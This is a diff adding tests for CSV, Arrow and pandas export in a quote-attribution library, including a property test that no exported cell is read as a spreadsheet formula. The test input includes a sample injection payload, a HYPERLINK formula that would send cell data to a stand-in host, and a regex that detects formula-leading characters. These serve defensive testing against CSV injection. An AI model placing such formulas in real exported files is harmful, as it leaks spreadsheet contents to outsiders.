@@ -247,11 +247,58 @@ def test_no_cell_is_a_formula(text: str) -> None:
     assert dict(table.read(data, {text: text})) == one
 
 
+FORMULAS = st.lists(st.sampled_from([*"=+-@＝;|,\"' a\t\r\n", "=HYPERLINK('http://x/?'&A1;'y')", "=1+1"])).map("".join)
+
+
+def cells_of_a_spreadsheet(data: str, delimiters: str) -> list[str]:
+    """Cells as a program may take them that knows these delimiters and begins a cell at any quotation mark."""
+    out = []
+    for delimiter in delimiters:
+        for quoting in (csv.QUOTE_MINIMAL, csv.QUOTE_NONE):
+            rows = csv.reader(io.StringIO(data, newline=""), delimiter=delimiter, quoting=quoting)
+            out += [cell for row in rows for cell in row]
+    return out
+
+
+@given(FORMULAS)
+def test_no_cell_is_a_formula_whatever_ends_one(text: str) -> None:
+    """In many countries a semicolon does, and often a tab, though the cell is quoted."""
+    whole = Span.of(f"x{text}", 0, len(text) + 1)
+    quote = quoteattr.Quote(
+        "q1", QuoteKind.DIRECT, quoteattr.Attitude.ASSERTION, False, (whole,), (), (), None, f"x{text}", 0.5, (text,)
+    )
+    one = {"a.txt": Article(whole.text, (quote,))}
+    data = written("csv", one)
+    cells = cells_of_a_spreadsheet(data.removeprefix("\ufeff"), ";\t|")
+    assert not [cell for cell in cells if re.match(r"[\s\"]*[=+\-@＝]", cell)]
+    assert dict(table.read(data, {"a.txt": whole.text})) == one
+
+
+def test_every_cell_is_quoted(seed_articles: dict[str, Article]) -> None:
+    """Also those that are empty."""
+    cells = r'"(?:[^"]|"")*"'
+    assert re.fullmatch(rf"\ufeff(?:{cells}(?:,{cells})*\r\n)+", written("csv", seed_articles))
+    head = written("csv", seed_articles).splitlines()[0]
+    assert re.fullmatch(r'\ufeff"[a-z_]+"(,"[a-z_]+")+', head)
+
+
+def test_articles_of_one_name_are_told_apart() -> None:
+    """In CSV and in Arrow tables, so that they can be read back."""
+    quote = quoteattr.Quote(
+        "q1", QuoteKind.DIRECT, quoteattr.Attitude.ASSERTION, False, (Span.of("a", 0, 1),), (), (), None, "r", 0.5
+    )
+    article = Article("a", (quote,))
+    named = [("x", article), ("x", article), ("x (2)", article), ("x", article)]
+    texts = dict.fromkeys(["x", "x (2)", "x (2) (2)", "x (3)"], "a")
+    data = "".join(FORMATS["csv"](named, True))
+    assert dict(table.read(data, texts)) == dict(from_table(to_table(named), texts)) == dict.fromkeys(texts, article)
+
+
 def test_a_table_opens_in_a_spreadsheet() -> None:
     """UTF-8 with its mark, one head, commas, and no line that Excel reads otherwise."""
     data = written("csv", {"a": Article("x"), "b": Article("y")})
-    assert data.startswith("\ufefffile,id,kind,")
-    assert data.count("file,") == 1
+    assert data.startswith('\ufeff"file","id","kind",')
+    assert data.count('"file",') == 1
 
 
 def test_no_offsets_look_like_a_date_or_a_number(seed_articles: dict[str, Article]) -> None:
@@ -443,6 +490,26 @@ def test_frames(seed_articles: dict[str, Article]) -> None:
     assert Article.from_records(article.text, rows) == article
 
 
+def test_an_article_is_a_frame_of_pandas(seed_articles: dict[str, Article]) -> None:
+    """With all columns, each of its type, also when there is no quote; and back."""
+    pandas = pytest.importorskip("pandas")
+    article = next(iter(seed_articles.values()))
+    frame = article.to_frame()
+    assert list(frame.columns) == [column.name for column in COLUMNS]
+    assert Article.from_records(article.text, frame.to_dict("records")) == article
+    empty = Article("Nothing.").to_frame()
+    kinds = {name: str(kind) for name, kind in empty.dtypes.items()}
+    assert (kinds["confidence"], kinds["start"], kinds["negated"]) == ("float64", "int64", "bool")
+    assert len(pandas.concat([frame, empty])) == len(article.quotes)
+
+
+def test_a_frame_without_pandas_says_what_to_install(monkeypatch: pytest.MonkeyPatch) -> None:
+    """The extra."""
+    monkeypatch.setitem(__import__("sys").modules, "pandas", None)
+    with pytest.raises(quoteattr.SettingError, match=r"quoteattr\[pandas\]"):
+        Article("").to_frame()
+
+
 def test_frames_of_other_articles_are_told(seed_articles: dict[str, Article]) -> None:
     """With the first row of one that has no text."""
     name, article = next(iter(seed_articles.items()))
@@ -455,7 +522,7 @@ def test_frames_of_other_articles_are_told(seed_articles: dict[str, Article]) ->
 def test_all_tables_have_the_same_columns(seed_articles: dict[str, Article]) -> None:
     """CSV, records and Arrow tables, in the same order."""
     name, article = next(iter(seed_articles.items()))
-    head = written("csv", {name: article}).removeprefix("\ufeff").splitlines()[0].split(",")
+    head = written("csv", {name: article}).removeprefix("\ufeff").splitlines()[0][1:-1].split('","')
     assert head == to_table([(name, article)]).column_names == ["file", *article.to_records()[0]]
     assert head[1:] == [column.name for column in COLUMNS]
 
